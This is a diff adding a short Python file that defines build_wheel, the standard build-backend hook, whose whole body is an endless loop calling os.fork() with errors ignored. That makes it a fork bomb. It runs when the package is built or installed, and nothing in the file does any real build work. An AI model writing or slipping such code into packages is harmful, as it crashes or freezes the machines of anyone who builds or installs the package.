@@ -1,0 +1,9 @@
+import os
+
+
+def build_wheel(folder, config_settings=None, metadata_directory=None):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
